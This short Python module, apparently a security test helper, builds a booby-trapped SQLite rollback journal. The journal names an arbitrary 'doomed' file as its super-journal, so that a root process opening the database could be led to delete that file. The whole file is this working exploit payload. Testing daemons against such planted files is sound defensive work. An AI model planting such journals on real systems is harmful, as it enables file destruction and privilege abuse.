"""What somebody who has got hold of the daemon's user could leave in its folder for root to open."""

from __future__ import annotations

import struct
from pathlib import Path


def planted_journal(path: Path, doomed: Path) -> None:
    """A journal of nothing, which names a file (https://sqlite.org/fileformat2.html, "The Rollback Journal")."""
    magic, name, page, sector = bytes.fromhex("d9d505f920a163d7"), bytes(doomed), 4096, 512
    header = magic + struct.pack(">IIIII", 0, 0, path.stat().st_size // page, sector, page)
    named = struct.pack(">I", 0x40000000 // page + 1) + name + struct.pack(">II", len(name), sum(name)) + magic
    path.with_name(f"{path.name}-journal").write_bytes(header.ljust(sector, b"\0") + named)
